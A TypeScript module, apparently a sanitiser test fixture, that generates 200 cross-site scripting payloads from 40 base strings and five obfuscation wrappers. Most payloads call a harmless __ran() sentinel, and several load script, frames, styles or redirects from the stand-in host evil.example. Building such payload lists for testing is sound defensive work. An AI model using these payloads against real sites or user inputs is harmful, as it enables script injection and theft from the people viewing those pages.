/** Payloads that run a script or send a request if a page renders them as HTML. A script calls `__ran()`. */
const bases: readonly string[] = [
  '<script>__ran()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=__ran()>',
  '<img src=//evil.example/i.png>',
  '<svg onload=__ran()>',
  '<svg><script>__ran()</script></svg>',
  '<svg><animate onbegin=__ran() attributeName=x dur=1s>',
  '<svg><a href=javascript:__ran()><text y=9>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__ran()>',
  '<iframe srcdoc="<script>parent.__ran()</script>">',
  '<iframe src=javascript:__ran()>',
  '<iframe src=//evil.example/>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<style>*{background:url(//evil.example/b)}</style>',
  '<p style="background:url(//evil.example/b)">x',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<a href=javascript:__ran() autofocus onfocus=__ran()>x</a>',
  '<input autofocus onfocus=__ran()>',
  '<details open ontoggle=__ran()>x',
  '<video><source onerror=__ran()></video>',
  '<audio src=x onerror=__ran()>',
  '<body onload=__ran()>',
  '<marquee onstart=__ran()>x',
  '<form action=//evil.example/><button autofocus>x',
  '<template><script>__ran()</script></template>',
  '<x contenteditable autofocus onfocus=__ran()>',
  '<div onpointerenter=__ran() style=position:fixed;inset:0>x',
  '<noscript><p title="</noscript><img src=x onerror=__ran()>">',
  'javascript:__ran()',
  'data:text/html,<script>__ran()</script>',
  '{{constructor.constructor("__ran()")()}}',
  `$${'{__ran()}'}`,
  '![x](//evil.example/m.png)',
  '[x](javascript:__ran())',
  '"onmouseover=__ran() x="',
  "';__ran();//",
];

const wrappers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    (text.includes('<') ? text : `<!-- ${text}`).replace(
      /<(\/?)(\w+)/g,
      (_all, slash: string, tag: string) =>
        `<${slash}${[...tag].map((email, index) => (index % 2 ? email : email.toUpperCase())).join('')}`,
    ),
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `&lt;b&gt; ${text.replaceAll(' ', '/')}`,
];

/** Two hundred one-line payloads that fit into the shortest field that accepts such characters. */
export const payloads: readonly string[] = wrappers.flatMap((dress) => bases.map(dress));
